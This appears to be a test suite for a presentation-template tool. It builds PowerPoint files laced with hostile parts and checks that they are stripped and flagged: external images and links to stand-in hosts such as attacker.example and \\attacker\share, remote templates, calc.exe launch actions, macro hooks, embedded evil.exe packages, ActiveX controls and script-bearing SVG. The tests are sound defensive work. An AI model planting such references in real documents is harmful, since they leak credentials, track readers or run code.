import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { fillTemplate } from '../../src/slides/brand/fill-template';
import { reportTemplate } from '../../src/slides/brand/report';
import { checkDeck } from '../../src/slides/check/check-deck';
import type { RuleId } from '../../src/slides/check/finding';
import { english } from '../render/samples';
import { allUsual, templateFile } from './template-file';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MASTER = 'ppt/slideMasters/slideMaster1.xml';
const LAYOUT = 'ppt/slideLayouts/slideLayout1.xml';
const THEME = 'ppt/theme/theme1.xml';
const PRESENTATION = 'ppt/presentation.xml';
type Parts = Record<string, string>;

const relsOf = (part: string): string => (part === '' ? '_rels/.rels' : part.replace(/([^/]+)$/, '_rels/$1.rels'));

function link(parts: Parts, part: string, kind: string, target: string, isExternal: boolean): void {
  const type = kind.includes('/') ? kind : `${OFFICE}/${kind}`;
  const mode = isExternal ? ' TargetMode="External"' : '';
  const name = relsOf(part);
  const empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>';
  parts[name] = (parts[name] ?? empty).replace(
    '</Relationships>',
    `<Relationship Id="evil" Type="${type}" Target="${target}"${mode}/></Relationships>`,
  );
}

const ns = `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${OFFICE}"`;
const picture = `<p:pic><p:nvPicPr><p:cNvPr id="90" name="Evil"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip ${ns} r:link="evil"/></p:blipFill><p:spPr/></p:pic>`;
const drawn = (parts: Parts, part: string, shape: string): void => {
  parts[part] = parts[part]!.replace('</p:spTree>', `${shape}</p:spTree>`);
};
const clickable = (attributes: string): string =>
  `<p:sp><p:nvSpPr><p:cNvPr id="91" name="Evil"><a:hlinkClick ${ns} r:id="evil" ${attributes}/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>`;
const object = (name: string, uri: string): string =>
  `<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="92" name="Evil"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm/><a:graphic><a:graphicData uri="${uri}"><p:oleObj ${ns} name="${name}" r:id="evil" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>`;

const inPicture =
  (part: string, target: string) =>
  (parts: Parts): void => {
    link(parts, part, 'image', target, true);
    if (part === THEME) {
      parts[part] = parts[part]!.replace(
        /<a:bgFillStyleLst>[\s\S]*?<\/a:bgFillStyleLst>/,
        `<a:bgFillStyleLst>${`<a:blipFill ${ns}><a:blip r:link="evil"/><a:stretch/></a:blipFill>`.repeat(3)}</a:bgFillStyleLst>`,
      );
    } else drawn(parts, part, picture);
  };
const only =
  (part: string, kind: string, target: string) =>
  (parts: Parts): void =>
    link(parts, part, kind, target, true);

type Variant = [string, RuleId, string, (parts: Parts) => void];

/** Name, rule of `deck check`, a text that no deck may contain, and the change. */
const VARIANTS: readonly Variant[] = [
  [
    'an image from the web in the master',
    'external-link',
    'tracker.example',
    inPicture(MASTER, 'http://tracker.example/a.png'),
  ],
  ['an image of a share in the master', 'external-link', 'attacker', inPicture(MASTER, '\\\\attacker\\share\\a.png')],
  ['an image by file: in the master', 'external-link', 'attacker', inPicture(MASTER, 'file://///attacker/share/a.png')],
  [
    'an image from the web in a layout',
    'external-link',
    'tracker.example',
    inPicture(LAYOUT, 'https://tracker.example/a.png'),
  ],
  ['an image of a share in a layout', 'external-link', 'attacker', inPicture(LAYOUT, '\\\\attacker\\share\\a.png')],
  [
    'an image from the web in the theme',
    'external-link',
    'tracker.example',
    inPicture(THEME, 'http://tracker.example/a.png'),
  ],
  ['an image of a share in the theme', 'external-link', 'attacker', inPicture(THEME, '\\\\attacker\\share\\a.png')],
  ['an external object', 'external-link', 'attacker', only(MASTER, 'oleObject', 'file://///attacker/share/a.xlsx')],
  [
    'an attached template',
    'external-link',
    'attacker',
    only(PRESENTATION, 'attachedTemplate', 'http://attacker.example/a.potm'),
  ],
  ['a frame', 'external-link', 'attacker', only(MASTER, 'frame', 'http://attacker.example/a.htm')],
  [
    'an external master',
    'external-link',
    'attacker',
    only(PRESENTATION, 'slideMaster', 'http://attacker.example/m.xml'),
  ],
  [
    'an action that starts a program',
    'action',
    'calc.exe',
    (parts) => {
      link(parts, LAYOUT, 'hyperlink', 'calc.exe', true);
      drawn(parts, LAYOUT, clickable('action="ppaction://program"'));
    },
  ],
  [
    'an action that runs a macro',
    'action',
    'ppaction://macro',
    (parts) => drawn(parts, LAYOUT, clickable('action="ppaction://macro?name=Evil"').replace('r:id="evil"', 'r:id=""')),
  ],
  [
    'an embedded object',
    'embedded-object',
    'oleObject1.bin',
    (parts) => {
      link(parts, MASTER, 'oleObject', '../embeddings/oleObject1.bin', false);
      parts['ppt/embeddings/oleObject1.bin'] = 'MZ';
      drawn(parts, MASTER, object('Evil', 'http://schemas.openxmlformats.org/presentationml/2006/ole'));
    },
  ],
  [
    'a program as a package',
    'embedded-object',
    'evil.exe',
    (parts) => {
      link(parts, LAYOUT, 'package', '../embeddings/evil.exe', false);
      parts['ppt/embeddings/evil.exe'] = 'MZ';
      drawn(parts, LAYOUT, object('Evil', 'http://schemas.openxmlformats.org/presentationml/2006/ole'));
    },
  ],
  [
    'an ActiveX control',
    'embedded-object',
    'activeX1.xml',
    (parts) => {
      link(parts, MASTER, 'control', '../activeX/activeX1.xml', false);
      parts['ppt/activeX/activeX1.xml'] = '<ocx/>';
      parts[MASTER] = parts[MASTER]!.replace(
        '</p:cSld>',
        `<p:controls><p:control ${ns} spid="1" name="Evil" r:id="evil"/></p:controls></p:cSld>`,
      );
    },
  ],
  [
    'a custom ribbon',
    'embedded-object',
    'customUI',
    (parts) => {
      link(
        parts,
        '',
        'http://schemas.microsoft.com/office/2006/relationships/ui/extensibility',
        'customUI/customUI.xml',
        false,
      );
      parts['customUI/customUI.xml'] = '<customUI onLoad="Evil"/>';
    },
  ],
  ...[
    'audio',
    'video',
    'http://schemas.microsoft.com/office/2007/relationships/media',
    'externalLinkPath',
    'customXml',
  ].map(
    (kind): Variant => [
      `${kind.split('/').at(-1)} from elsewhere`,
      'external-link',
      'attacker',
      only(LAYOUT, kind, 'file://///attacker/share/a.wav'),
    ],
  ),
  [
    'a sound of a transition',
    'external-link',
    'attacker',
    (parts) => {
      link(parts, LAYOUT, 'audio', '\\\\attacker\\a.wav', true);
      const sound = `<p:transition><p:sndAc><p:stSnd><p:snd ${ns} r:embed="evil" name="a"/></p:stSnd></p:sndAc></p:transition>`;
      parts[LAYOUT] = parts[LAYOUT]!.replace('</p:sldLayout>', `${sound}</p:sldLayout>`);
    },
  ],
  [
    'a sound of an animation',
    'external-link',
    'attacker',
    (parts) => {
      link(parts, MASTER, 'audio', 'https://attacker.example/a.wav', true);
      const node = `<p:audio><p:cMediaNode><p:cTn id="2"/><p:tgtEl><p:sndTgt ${ns} r:embed="evil" name="a"/></p:tgtEl></p:cMediaNode></p:audio>`;
      const timing = `<p:timing><p:tnLst><p:par><p:cTn id="1"><p:childTnLst>${node}</p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>`;
      parts[MASTER] = parts[MASTER]!.replace('<p:txStyles', `${timing}<p:txStyles`);
    },
  ],
  ...[
    'file://///attacker/share/a.lnk',
    '\\\\attacker\\share',
    'mhtml:http://attacker.example/a',
    'ms-word:ofe|u|attacker',
  ].map(
    (target): Variant => [
      `a link to ${target}`,
      'external-link',
      'attacker',
      (parts) => {
        link(parts, LAYOUT, 'hyperlink', target, true);
        drawn(parts, LAYOUT, clickable(''));
      },
    ],
  ),
  [
    'a program that starts when the pointer is over a shape',
    'action',
    'calc.exe',
    (parts) => {
      link(parts, MASTER, 'hyperlink', 'calc.exe', true);
      drawn(parts, MASTER, clickable('action="ppaction://program"').replace('a:hlinkClick', 'a:hlinkHover'));
    },
  ],
];

const changed = (spec: Parameters<typeof templateFile>[0], change: (parts: Parts) => void): Uint8Array => {
  const parts: Parts = {};
  for (const [name, content] of Object.entries(unzipSync(templateFile(spec)))) parts[name] = strFromU8(content, true);
  change(parts);
  return zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text, true)])));
};
const usual = { layouts: allUsual };
const everything = (file: Uint8Array): string =>
  Object.entries(unzipSync(file))
    .map(([name, content]) => `${name}\n${strFromU8(content, true)}`)
    .join('\n');

describe.each(VARIANTS)('%s', (_, rule, trace, change) => {
  const file = changed(usual, change);

  it('is in no deck, and the report names it', () => {
    const deck = fillTemplate({ file, outline: english });
    const traces = [trace, 'r:id="evil"', 'r:link="evil"', 'Id="evil"'];
    expect(traces.filter((each) => everything(deck).includes(each))).toEqual([]);
    expect(everything(file).includes(trace)).toBe(true);
    expect(reportTemplate(file).removed.join('\n')).toContain(trace.replaceAll('\\', '\\\\'));
    expect(checkDeck(deck).findings.filter((each) => each.severity === 'error')).toEqual([]);
  });

  it('is an error of a check', () => {
    const presentation = changed({ ...usual, template: false, examples: [{ layout: 1 }] }, change);
    const found = checkDeck(presentation).findings.filter((each) => each.rule === rule);
    expect(found.map(({ message }) => message).join('\n')).toContain(trace.replaceAll('\\', '\\\\'));
    expect(checkDeck(templateFile({ ...usual, examples: [{ layout: 1 }] })).findings).not.toContainEqual(
      expect.objectContaining({ rule }),
    );
  });
});

it('links to web pages, images with a stored copy and everything else of a design stay', () => {
  const file = changed(usual, (parts) => {
    link(parts, LAYOUT, 'hyperlink', 'https://acme.example/', true);
    drawn(parts, LAYOUT, clickable(''));
  });
  expect(reportTemplate(file).removed).toEqual([]);
  expect(everything(fillTemplate({ file, outline: english })).includes('https://acme.example/')).toBe(true);
});

it.each([
  [
    'a relationship with another spelling of External',
    (parts: Parts) => {
      inPicture(LAYOUT, '\\\\attacker\\share\\a.png')(parts);
      parts[relsOf(LAYOUT)] = parts[relsOf(LAYOUT)]!.replace('TargetMode="External"', 'TargetMode="external"');
    },
  ],
  ...[
    '\\\\attacker\\share\\a.png',
    '%5C%5Cattacker/a.png',
    '//attacker/share/a.png',
    'https://attacker.example/a.png',
  ].map((target): [string, (parts: Parts) => void] => [
    `a relationship without a mode to ${target}`,
    (parts) => {
      inPicture(LAYOUT, target)(parts);
      parts[relsOf(LAYOUT)] = parts[relsOf(LAYOUT)]!.replace(' TargetMode="External"', '');
    },
  ]),
  [
    'relationships with a prefix',
    (parts: Parts) => {
      inPicture(MASTER, 'https://attacker.example/a.png')(parts);
      parts[relsOf(MASTER)] = parts[relsOf(MASTER)]!.replace(
        '<Relationship Id="evil"',
        '<x:Relationship xmlns:x="http://schemas.openxmlformats.org/package/2006/relationships" Id="evil"',
      );
    },
  ],
  [
    'a relationship of a type in capitals',
    (parts: Parts) => {
      inPicture(MASTER, 'https://attacker.example/a.png')(parts);
      parts[relsOf(MASTER)] = parts[relsOf(MASTER)]!.replace(
        `Type="${OFFICE}/image" Target="https`,
        `Type="${OFFICE}/Image" Target="https`,
      );
    },
  ],
  [
    'a drawing with a script',
    (parts: Parts) => {
      link(parts, MASTER, 'image', '../media/a.svg', false);
      parts['ppt/media/a.svg'] = '<svg xmlns="http://www.w3.org/2000/svg"><script>attacker</script></svg>';
      drawn(parts, MASTER, picture.replace('r:link', 'r:embed'));
    },
  ],
])('%s is in no deck', (_, change) => {
  const file = changed(usual, change);
  expect(everything(file)).toContain('attacker');
  let deck = '';
  try {
    deck = everything(fillTemplate({ file, outline: english }));
  } catch (error) {
    // Refused as damaged: no deck at all.
    expect(error).toMatchObject({ kind: 'unreadable' });
  }
  expect(deck).not.toContain('attacker');
});

describe('a template beyond its limits is refused, soon', () => {
  let began = process.cpuUsage();
  beforeAll(() => {
    began = process.cpuUsage();
  });
  const holders = Array.from({ length: 3000 }, (_, idx) => ({ idx: idx + 20, box: [1, 1, 9, 9] as const }));
  const master = (count: number) => ({ layouts: Array.from({ length: count }, () => allUsual[1]!) });

  it.each<[string, () => Uint8Array, RegExp]>([
    [
      'placeholders',
      () => templateFile({ layouts: Array(17).fill({ ...allUsual[1]!, holders }) }),
      /more than 200 placeholders/,
    ],
    ['layouts', () => templateFile({ masters: [master(201)] }), /more than 200 layouts/],
    ['masters', () => templateFile({ masters: Array(11).fill(master(1)) }), /more than 10 slide masters/],
  ])('%s', (_, file, reason) => {
    expect(() => reportTemplate(file())).toThrow(reason);
  });

  it('a master listed 5,000 times counts once', () => {
    const listed = changed(usual, (parts) => {
      parts[PRESENTATION] = parts[PRESENTATION]!.replace(/<p:sldMasterId [^>]*>/, (each) => each.repeat(5000));
    });
    expect(reportTemplate(listed)).toMatchObject({ masters: [{}], layouts: { length: allUsual.length } });
    const { user, system } = process.cpuUsage(began);
    expect((user + system) / 1e6).toBeLessThan(20);
  });
});
